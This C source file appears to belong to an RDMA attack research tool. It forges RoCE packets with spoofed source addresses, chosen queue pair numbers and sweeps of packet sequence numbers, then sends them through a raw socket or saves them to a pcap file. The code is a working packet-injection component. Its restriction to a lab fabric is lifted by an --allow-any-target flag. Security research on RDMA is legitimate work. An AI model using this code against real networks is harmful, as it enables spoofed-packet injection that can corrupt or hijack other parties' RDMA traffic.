/* SPDX-License-Identifier: MIT */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <getopt.h>
#include <ifaddrs.h>
#include <infiniband/verbs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "cli.h"

bool parse_u64(const char *s, uint64_t max, uint64_t *out, const char *what)
{
	uint64_t v;
	const char *end;
	if (!cli_scan_u64(s, &v, &end) || *end || v > max) {
		fprintf(stderr, "%s: invalid %s: `%s' (expected 0..0x%llx)\n", PROG, what, s ? s : "",
			(unsigned long long)max);
		return false;
	}
	*out = v;
	return true;
}

bool parse_u32(const char *s, uint32_t max, uint32_t *out, const char *what)
{
	uint64_t v;

	if (!parse_u64(s, max, &v, what))
		return false;
	*out = (uint32_t)v;
	return true;
}

bool parse_ipv4(const char *s, uint32_t *out, const char *what)
{
	struct in_addr a;

	if (!s || inet_pton(AF_INET, s, &a) != 1) {
		fprintf(stderr, "%s: invalid %s: `%s' (expected a dotted IPv4 address)\n", PROG, what,
			s ? s : "");
		return false;
	}
	*out = ntohl(a.s_addr);
	return true;
}

bool parse_sweep(const char *s, uint32_t *start, uint32_t *count)
{
	const char *colon = s ? strchr(s, ':') : NULL;
	char head[32];
	size_t n;

	if (!colon || (n = (size_t)(colon - s)) == 0 || n >= sizeof(head)) {
		fprintf(stderr, "%s: invalid --psn-sweep: `%s' (expected START:COUNT)\n", PROG, s ? s : "");
		return false;
	}
	memcpy(head, s, n);
	head[n] = '\0';
	if (!parse_u32(head, ROCE_PSN_MAX, start, "sweep start PSN") ||
	    !parse_u32(colon + 1, ROCE_PSN_MAX + 1u, count, "sweep count"))
		return false;
	if (*count == 0) {
		fprintf(stderr, "%s: invalid sweep count: must be at least 1\n", PROG);
		return false;
	}
	return true;
}

bool parse_hex(const char *s, uint8_t *buf, size_t cap, size_t *len, const char *what)
{
	size_t n = s ? strlen(s) : 1;

	if (n % 2 || n / 2 > cap)
		goto bad;
	unsigned not_hex = 0;
	for (size_t i = 0; i < n / 2 && !not_hex; i++) {
		uint8_t hi = cli_hex_digit((uint8_t)s[2 * i], &not_hex);
		buf[i] = (uint8_t)(hi << 4 | cli_hex_digit((uint8_t)s[2 * i + 1], &not_hex));
	}
	if (not_hex)
		goto bad;
	*len = n / 2;
	return true;
bad:
	fprintf(stderr, "%s: invalid %s: expected an even number of hex digits, at most %zu bytes\n",
		PROG, what, cap);
	return false;
}

const char *ipv4_str(uint32_t ip, char buf[static 16])
{
	snprintf(buf, 16, "%u.%u.%u.%u", ip >> 24, (ip >> 16) & 0xff, (ip >> 8) & 0xff, ip & 0xff);
	return buf;
}

bool target_allowed(uint32_t ip, bool allow_any)
{
	char s[16];

	if ((ip >> 24) == 127 || (ip & 0xffffff00u) == 0x0a4d0000u)
		return true;
	if (allow_any) {
		fprintf(stderr, "%s: warning: %s is outside loopback and the fabric (10.77.0.0/24); "
			"proceeding because of --allow-any-target\n", PROG, ipv4_str(ip, s));
		return true;
	}
	fprintf(stderr, "%s: refusing to target %s: only loopback (127.0.0.0/8) and the fabric "
		"(10.77.0.0/24) are allowed without --allow-any-target\n", PROG, ipv4_str(ip, s));
	return false;
}

void progress_start(struct progress *p, const char *label, uint64_t total)
{
	p->label = label;
	p->total = total ? total : 1;
	p->last = -1;
	p->on = isatty(STDERR_FILENO) && total > 1;
	progress_update(p, 0);
}

void progress_update(struct progress *p, uint64_t done)
{
	enum { WIDTH = 40 };
	int pct, fill;

	if (!p->on)
		return;
	pct = (int)(done * 100 / p->total);
	if (pct == p->last)
		return;
	p->last = pct;
	fill = pct * WIDTH / 100;
	fprintf(stderr, "\r%s [%.*s%*s] %3d%% %llu/%llu", p->label, fill,
		"########################################", WIDTH - fill, "", pct,
		(unsigned long long)done, (unsigned long long)p->total);
}

void progress_end(struct progress *p)
{
	if (!p->on)
		return;
	progress_update(p, p->total);
	fputc('\n', stderr);
}

struct ibv_context *open_device(const char *name)
{
	struct ibv_device **list;
	struct ibv_context *ctx = NULL;
	int n;

	list = ibv_get_device_list(&n);
	if (!list || n == 0) {
		fprintf(stderr, "%s: no RDMA device found\n", PROG);
		if (list)
			ibv_free_device_list(list);
		return NULL;
	}
	for (int i = 0; i < n; i++) {
		if (name && strcmp(ibv_get_device_name(list[i]), name) != 0)
			continue;
		ctx = ibv_open_device(list[i]);
		if (!ctx)
			fprintf(stderr, "%s: cannot open %s: %s\n", PROG, ibv_get_device_name(list[i]),
				strerror(errno));
		ibv_free_device_list(list);
		return ctx;
	}
	fprintf(stderr, "%s: no RDMA device named `%s'\n", PROG, name);
	ibv_free_device_list(list);
	return NULL;
}

/* --psn N or --psn-sweep S:C, once; false if bad. */
static bool forge_parse_psn(struct forge_opts *o, int opt, const char *arg)
{
	bool ok;

	if (opt == OPT_PSN) {
		ok = parse_u32(arg, ROCE_PSN_MAX, &o->psn, "--psn");
		o->count = 1;
	} else {
		ok = parse_sweep(arg, &o->psn, &o->count);
	}
	if (o->have_psn)
		ok = false, fprintf(stderr, "%s: give --psn or --psn-sweep once\n", PROG);
	o->have_psn = true;
	return ok;
}

bool forge_parse_opt(struct forge_opts *o, int opt, const char *arg, bool *bad)
{
	uint32_t v = 0;

	switch (opt) {
	case OPT_DST:
		*bad |= !parse_ipv4(arg, &o->dst_ip, "--dst");
		o->have_dst = true;
		return true;
	case OPT_SRC:
		*bad |= !parse_ipv4(arg, &o->src_ip, "--src");
		o->have_src = true;
		return true;
	case OPT_QPN:
		*bad |= !parse_u32(arg, ROCE_QPN_MAX, &o->qpn, "--qpn");
		o->have_qpn = true;
		return true;
	case OPT_PSN:
	case OPT_SWEEP:
		*bad |= !forge_parse_psn(o, opt, arg);
		return true;
	case OPT_IFACE:
		if (strlen(arg) >= IFNAMSIZ) {
			fprintf(stderr, "%s: interface name too long: `%s'\n", PROG, arg);
			*bad = true;
		}
		o->iface = arg;
		return true;
	case OPT_BIND:
		*bad |= !parse_ipv4(arg, &o->bind_ip, "--bind");
		o->have_bind = true;
		return true;
	case OPT_SPORT:
		*bad |= !parse_u32(arg, 0xffff, &v, "--sport");
		o->sport = (uint16_t)v;
		return true;
	case OPT_INTERVAL:
		*bad |= !parse_u32(arg, 10000000, &o->interval_us, "--interval-us");
		return true;
	case OPT_PCAP:
		o->pcap = arg;
		return true;
	case OPT_NO_SEND:
		o->no_send = true;
		return true;
	case OPT_ALLOW_ANY:
		o->allow_any = true;
		return true;
	case OPT_JSON:
		o->json = true;
		return true;
	default:
		return false;
	}
}

int forge_getopt(int argc, char *argv[], const struct option *long_opts, const char *cmd, struct forge_opts *o,
		 bool (*own)(int opt, const char *arg, void *ctx), void *ctx, void (*help)(FILE *f), bool *bad)
{
	int opt;

	while ((opt = getopt_long(argc, argv, "h", long_opts, NULL)) != -1) {
		if (forge_parse_opt(o, opt, optarg, bad))
			continue;
		if (opt == 'h') {
			help(stdout);
			return 0;
		}
		if (opt < OPT_FIRST_PRIVATE) { /* '?': getopt said what was wrong */
			help(stderr);
			return 2;
		}
		*bad |= !own(opt, optarg, ctx);
	}
	if (optind != argc) {
		fprintf(stderr, "%s %s: unexpected argument `%s'\n", PROG, cmd, argv[optind]);
		return 2;
	}
	return -1;
}

bool forge_check(const struct forge_opts *o, const char *cmd)
{
	const char *missing = !o->have_dst ? "--dst" : !o->have_src ? "--src" :
			      !o->have_qpn ? "--qpn" : !o->have_psn ? "--psn or --psn-sweep" : NULL;

	if (missing) {
		fprintf(stderr, "%s %s: missing %s (see --help)\n", PROG, cmd, missing);
		return false;
	}
	return target_allowed(o->dst_ip, o->allow_any);
}

static int iface_ipv4(const char *iface, uint32_t *ip)
{
	struct ifaddrs *ifa, *i;
	int rc = RSEC_E_INVAL;

	if (getifaddrs(&ifa) != 0)
		return RSEC_E_IO;
	for (i = ifa; i; i = i->ifa_next) {
		if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET || strcmp(i->ifa_name, iface) != 0)
			continue;
		*ip = ntohl(((const struct sockaddr_in *)(const void *)i->ifa_addr)->sin_addr.s_addr);
		rc = 0;
		break;
	}
	freeifaddrs(ifa);
	return rc;
}

/*
 * IPPROTO_RAW implies IP_HDRINCL: our header goes out as built, except that
 * the kernel rewrites the checksum (masked in the ICRC) and fills a zero IP ID
 * (covered by the ICRC, so we never send 0). The routing decision uses the
 * socket's own address, not the spoofed one in the header: binding to the
 * attacker's address lets the fabric's per-host rules send it out its veth.
 */
static int raw_open(const struct forge_opts *o, int *fd_out)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	uint32_t bind_ip = o->bind_ip;
	char s[16];
	int fd;

	if (o->iface && !o->have_bind && iface_ipv4(o->iface, &bind_ip) != 0) {
		fprintf(stderr, "%s: interface %s has no IPv4 address\n", PROG, o->iface);
		return RSEC_E_INVAL;
	}
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		fprintf(stderr, "%s: raw socket: %s (needs CAP_NET_RAW)\n", PROG, strerror(errno));
		return RSEC_E_IO;
	}
	if (o->iface && setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, o->iface,
				   (socklen_t)strlen(o->iface) + 1) != 0) {
		fprintf(stderr, "%s: SO_BINDTODEVICE %s: %s\n", PROG, o->iface, strerror(errno));
		close(fd);
		return RSEC_E_IO;
	}
	if (o->iface || o->have_bind) {
		sa.sin_addr.s_addr = htonl(bind_ip);
		if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
			fprintf(stderr, "%s: bind %s: %s\n", PROG, ipv4_str(bind_ip, s), strerror(errno));
			close(fd);
			return RSEC_E_IO;
		}
	}
	*fd_out = fd;
	return 0;
}

/* pcap with LINKTYPE_RAW (101): each record is a bare IPv4 packet. */
static int pcap_open(const char *path, FILE **out)
{
	static const uint32_t magic = 0xa1b2c3d4u, rest[4] = { 0, 0, 65535, 101 };
	static const uint16_t ver[2] = { 2, 4 };
	FILE *f = fopen(path, "wb");

	if (!f) {
		fprintf(stderr, "%s: cannot write %s: %s\n", PROG, path, strerror(errno));
		return RSEC_E_IO;
	}
	/* Native byte order; readers detect it from the magic. */
	if (fwrite(&magic, 4, 1, f) != 1 || fwrite(ver, 2, 2, f) != 2 || fwrite(rest, 4, 4, f) != 4) {
		fclose(f);
		return RSEC_E_IO;
	}
	*out = f;
	return 0;
}

static int pcap_write(FILE *f, const uint8_t *pkt, size_t len)
{
	struct timespec ts;
	uint32_t rec[4];

	clock_gettime(CLOCK_REALTIME, &ts);
	rec[0] = (uint32_t)ts.tv_sec;
	rec[1] = (uint32_t)(ts.tv_nsec / 1000);
	rec[2] = rec[3] = (uint32_t)len;
	RSEC_ENSURE(fwrite(rec, sizeof(rec), 1, f) == 1, RSEC_E_IO);
	RSEC_ENSURE(fwrite(pkt, len, 1, f) == 1, RSEC_E_IO);
	return 0;
}

int forge_run(const struct forge_opts *o, struct roce_pkt *tmpl, uint64_t *sent)
{
	static uint8_t buf[ROCE_MAX_PACKET];
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(o->dst_ip) };
	struct progress prog;
	FILE *pcap = NULL;
	uint16_t id;
	size_t len;
	int fd = -1, rc = 0;

	*sent = 0;
	if (getrandom(&id, sizeof(id), 0) != sizeof(id))
		id = (uint16_t)getpid();
	tmpl->src_ip = o->src_ip;
	tmpl->dst_ip = o->dst_ip;
	tmpl->dest_qp = o->qpn;
	tmpl->udp_sport = o->sport ? o->sport : 49152;
	tmpl->ttl = tmpl->ttl ? tmpl->ttl : 64;
	tmpl->frag_off = 0x4000; /* DF, as rxe sends */
	tmpl->pkey = ROCE_DEFAULT_PKEY;
	if (o->pcap)
		RSEC_GUARD(pcap_open(o->pcap, &pcap));
	if (!o->no_send && (rc = raw_open(o, &fd)) != 0)
		goto out;
	progress_start(&prog, "psn sweep", o->count);
	for (uint32_t i = 0; i < o->count; i++) {
		tmpl->psn = o->psn_fixed ? o->psn : (o->psn + i) & ROCE_PSN_MAX;
		if (++id == 0)
			id = 1;
		tmpl->ip_id = id;
		if ((rc = roce_pkt_build(tmpl, buf, sizeof(buf), &len)) != 0) {
			fprintf(stderr, "%s: cannot build the packet: %s\n", PROG, rsec_strerror(rc));
			break;
		}
		if (pcap && (rc = pcap_write(pcap, buf, len)) != 0) {
			fprintf(stderr, "%s: writing %s failed\n", PROG, o->pcap);
			break;
		}
		if (fd >= 0 && sendto(fd, buf, len, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)len) {
			fprintf(stderr, "%s: sendto: %s\n", PROG, strerror(errno));
			rc = RSEC_E_IO;
			break;
		}
		(*sent)++;
		progress_update(&prog, i + 1);
		if (o->interval_us)
			usleep(o->interval_us);
	}
	progress_end(&prog);
out:
	if (fd >= 0)
		close(fd);
	if (pcap && fclose(pcap) != 0 && rc == 0)
		rc = RSEC_E_IO;
	return rc;
}

double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}
